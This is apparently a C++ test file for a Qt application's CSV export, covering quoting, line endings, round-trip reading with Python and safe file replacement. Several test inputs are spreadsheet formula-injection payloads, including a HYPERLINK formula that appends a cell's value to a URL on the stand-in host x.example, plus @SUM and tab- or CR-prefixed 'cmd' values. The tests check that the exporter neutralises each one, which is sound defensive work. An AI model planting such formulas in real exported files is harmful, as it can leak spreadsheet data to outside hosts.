// Comma-separated files as another program reads them: Python's csv module gets back every
// field as it was, a field a spreadsheet would run carries a leading apostrophe, lines end
// in CR LF after a byte-order mark, and a file is replaced only by one written whole.

#include "ReportsFixture.h"

#include "reports/query/CsvExport.h"
#include "rules/CsvText.h"

#include <QDir>
#include <QFile>

#include <csignal>
#include <sys/resource.h>

namespace quorin::test {
namespace {

QByteArray ReadAll(const QString& path)
{
    QFile file(path);
    return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray();
}

void WriteAll(const QString& path, const QByteArray& bytes)
{
    QFile file(path);
    ASSERT_TRUE(file.open(QIODevice::WriteOnly | QIODevice::Truncate));
    ASSERT_EQ(file.write(bytes), bytes.size());
}

const std::vector<QStringList>& Awkward()
{
    static const std::vector<QStringList> lines = {
        {QStringLiteral("Consent List")},
        {QStringLiteral("LastName"), QStringLiteral("FirstName"), QStringLiteral("Notes")},
        {QStringLiteral("Smith, Jr."), QStringLiteral("Anne"), QStringLiteral("says \"call after 5\"")},
        {QStringLiteral("O'Brien"), QStringLiteral("  Pat"), QStringLiteral("line one\r\nline two\nthree\rfour")},
        {QString::fromUtf8("M\xC3\xBCller"), QString(), QStringLiteral("\"")},
        {QStringLiteral(" "), QStringLiteral(","), QStringLiteral("trailing blank ")},
    };
    return lines;
}

// Fields a spreadsheet would run, and what every reader gets back.
const std::vector<std::pair<QStringList, QStringList>>& Formulas()
{
    static const std::vector<std::pair<QStringList, QStringList>> lines = {
        {{"=1+2", "+1", "-1", "@A1", "\t=2", "\r=3"}, {"'=1+2", "+1", "-1", "'@A1", "'\t=2", "'\r=3"}},
        {{"=HYPERLINK(\"http://x.example/\",\"a, b\")", "-4.25", QString::fromUtf8("M\xC3\xBCller")},
         {"'=HYPERLINK(\"http://x.example/\",\"a, b\")", "-4.25", QString::fromUtf8("M\xC3\xBCller")}},
    };
    return lines;
}

TEST(CsvFieldTest, QuotesOnlyWhatNeedsQuoting)
{
    EXPECT_EQ(csv::Field(QStringLiteral("plain text")), QStringLiteral("plain text"));
    EXPECT_EQ(csv::Field(QStringLiteral("  leading")), QStringLiteral("  leading"));
    EXPECT_EQ(csv::Field(QString()), QString());
    EXPECT_EQ(csv::Field(QStringLiteral("Smith, Jr.")), QStringLiteral("\"Smith, Jr.\""));
    EXPECT_EQ(csv::Field(QStringLiteral("5\" tall")), QStringLiteral("\"5\"\" tall\""));
    EXPECT_EQ(csv::Field(QStringLiteral("a\nb")), QStringLiteral("\"a\nb\""));
    EXPECT_EQ(csv::Field(QStringLiteral("a\rb")), QStringLiteral("\"a\rb\""));
    EXPECT_EQ(csv::Line({QStringLiteral("a"), QStringLiteral("b,c"), QString()}), QStringLiteral("a,\"b,c\",\r\n"));
    EXPECT_EQ(csv::Line({}), QStringLiteral("\r\n"));
}

// What a spreadsheet would run gets an apostrophe; numbers, signed ones too, stay numbers.
TEST(CsvFieldTest, FormulaStartsGetAnApostropheNumbersDoNot)
{
    const std::pair<const char*, const char*> cases[] = {
        {"=1+2", "'=1+2"},
        {"=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"click\"\")\""},
        {"+1 555 0100", "'+1 555 0100"},
        {"-2+3", "'-2+3"},
        {"@SUM(A1:A2)", "'@SUM(A1:A2)"},
        {"\tcmd", "'\tcmd"},
        {"\rcmd", "\"'\rcmd\""},
        {"-12", "-12"},
        {"+3.5", "+3.5"},
        {"-.5", "-.5"},
        {"-1.2.3", "'-1.2.3"},
        {"-", "'-"},
        {"a=b", "a=b"},
        {" =1", " =1"},
    };
    for (const auto& [value, written] : cases)
        EXPECT_EQ(csv::Field(QString::fromUtf8(value)), QString::fromUtf8(written)) << value;
}

TEST(CsvFileTest, PythonReadsBackEveryFieldAsItWas)
{
    QTemporaryDir dir;
    ASSERT_TRUE(dir.isValid());
    const QString path = dir.filePath(QStringLiteral("consent.csv"));
    ScriptedUserInterface ui;
    ui.SaveFileNext(path);
    EXPECT_EQ(SaveCsv(ui, QStringLiteral("ConsentList.csv"), Awkward()), CsvResult::Saved);
    EXPECT_TRUE(ui.Texts().isEmpty());
    ASSERT_EQ(ui.SaveRequests().size(), 1u);
    EXPECT_EQ(ui.SaveRequests()[0].defaultExtension, QStringLiteral("csv"));
    EXPECT_EQ(ui.SaveRequests()[0].defaultName, QStringLiteral("ConsentList.csv"));
    EXPECT_EQ(ui.SaveRequests()[0].filters,
              (QStringList{QStringLiteral("Comma Delimited Files (*.csv)"), QStringLiteral("All Files (*.*)")}));

    EXPECT_EQ(ReadCsvWithPython(path), Awkward());

    const QByteArray bytes = ReadAll(path);
    EXPECT_TRUE(bytes.startsWith("\xEF\xBB\xBF" "Consent List\r\nLastName,FirstName,Notes\r\n"))
        << "byte-order mark, then the lines";
    EXPECT_TRUE(bytes.endsWith(" ,\",\",trailing blank \r\n"));
    EXPECT_TRUE(bytes.contains("M\xC3\xBCller")) << "UTF-8";
    // Every line break outside a quoted field is CR LF.
    int outsideLf = 0;
    bool quoted = false;
    for (qsizetype i = 0; i < bytes.size(); ++i) {
        if (bytes[i] == '"')
            quoted = !quoted;
        else if (!quoted && bytes[i] == '\n') {
            ++outsideLf;
            EXPECT_EQ(bytes[i - 1], '\r') << "bare LF at byte " << i;
        }
    }
    EXPECT_EQ(outsideLf, 6);
}

TEST(CsvFileTest, PythonReadsFormulaFieldsWithTheirApostrophe)
{
    QTemporaryDir dir;
    const QString path = dir.filePath(QStringLiteral("formulas.csv"));
    std::vector<QStringList> written, expected;
    for (const auto& [fields, readBack] : Formulas()) {
        written.push_back(fields);
        expected.push_back(readBack);
    }
    ASSERT_EQ(WriteCsvFile(path, static_cast<int>(written.size()), [&](int i) { return written[size_t(i)]; }),
              CsvResult::Saved);
    EXPECT_EQ(ReadCsvWithPython(path), expected);
}

TEST(CsvFileTest, ReplacingAFileAndCancelling)
{
    QTemporaryDir dir;
    const QString path = dir.filePath(QStringLiteral("old.csv"));
    WriteAll(path, QByteArray("older,and,longer,content\r\n").repeated(50));
    ScriptedUserInterface ui;

    ui.SaveFileNext(QString());
    EXPECT_EQ(SaveCsv(ui, QStringLiteral("x.csv"), Awkward()), CsvResult::Cancelled);
    EXPECT_EQ(ReadAll(path), QByteArray("older,and,longer,content\r\n").repeated(50)) << "Cancel writes nothing";
    EXPECT_EQ(QDir(dir.path()).entryList(QDir::Files), QStringList{QStringLiteral("old.csv")});

    ui.SaveFileNext(path);
    EXPECT_EQ(SaveCsv(ui, QStringLiteral("x.csv"), {{QStringLiteral("new")}}), CsvResult::Saved);
    EXPECT_EQ(ReadAll(path), QByteArray("\xEF\xBB\xBF" "new\r\n")) << "the old file is replaced, not appended to";
    EXPECT_TRUE(ui.Texts().isEmpty());
}

TEST(CsvFileTest, AFolderThatCannotBeWritten)
{
    ScriptedUserInterface ui;
    // Not even the superuser creates files there.
    ui.SaveFileNext(QStringLiteral("/proc/self/report.csv"));
    EXPECT_EQ(SaveCsv(ui, QStringLiteral("x.csv"), Awkward()), CsvResult::OpenFailed);
    QTemporaryDir dir;
    ui.SaveFileNext(dir.filePath(QStringLiteral("missing/report.csv")));
    EXPECT_EQ(SaveCsv(ui, QStringLiteral("x.csv"), Awkward()), CsvResult::OpenFailed);
    ASSERT_EQ(ui.Messages().size(), 2u);
    for (const auto& m : ui.Messages()) {
        EXPECT_EQ(m.text, QStringLiteral("Error: Can't open output file."));
        EXPECT_EQ(m.icon, UserInterface::Icon::Stop);
    }
    EXPECT_FALSE(QFile::exists(dir.filePath(QStringLiteral("missing"))));
}

TEST(CsvFileTest, AFailedWriteLeavesTheOldFileAsItWas)
{
    QTemporaryDir dir;
    const QString path = dir.filePath(QStringLiteral("closed.csv"));
    const QByteArray old("DatasetName,Irb\r\nHearing 1,2019-041\r\n");
    WriteAll(path, old);

    // The file-size limit stops the write part-way, as a full disk would.
    std::signal(SIGXFSZ, SIG_IGN);
    rlimit saved{};
    ASSERT_EQ(getrlimit(RLIMIT_FSIZE, &saved), 0);
    rlimit small = saved;
    small.rlim_cur = 8192;
    ASSERT_EQ(setrlimit(RLIMIT_FSIZE, &small), 0);
    ScriptedUserInterface ui;
    ui.SaveFileNext(path);
    const CsvResult result = SaveCsv(ui, QStringLiteral("closed.csv"), 20000, [](int i) {
        return QStringList{QString::number(i), QStringLiteral("a row long enough to pass the limit soon")};
    });
    ASSERT_EQ(setrlimit(RLIMIT_FSIZE, &saved), 0);
    std::signal(SIGXFSZ, SIG_DFL);

    EXPECT_EQ(result, CsvResult::WriteFailed);
    ASSERT_EQ(ui.Messages().size(), 1u);
    EXPECT_EQ(ui.Messages()[0].text, QStringLiteral("Error: Can't write output file."));
    EXPECT_EQ(ui.Messages()[0].icon, UserInterface::Icon::Stop);
    EXPECT_EQ(ReadAll(path), old) << "byte for byte";
    EXPECT_EQ(QDir(dir.path()).entryList(QDir::Files | QDir::Hidden), QStringList{QStringLiteral("closed.csv")})
        << "no half-written file left beside it";

    // Without the limit the same lines are written whole.
    ui.SaveFileNext(path);
    EXPECT_EQ(SaveCsv(ui, QStringLiteral("closed.csv"), 20000,
                      [](int i) { return QStringList{QString::number(i), QStringLiteral("x")}; }),
              CsvResult::Saved);
    EXPECT_EQ(ReadCsvWithPython(path).size(), 20000u);
}

} // namespace
} // namespace quorin::test
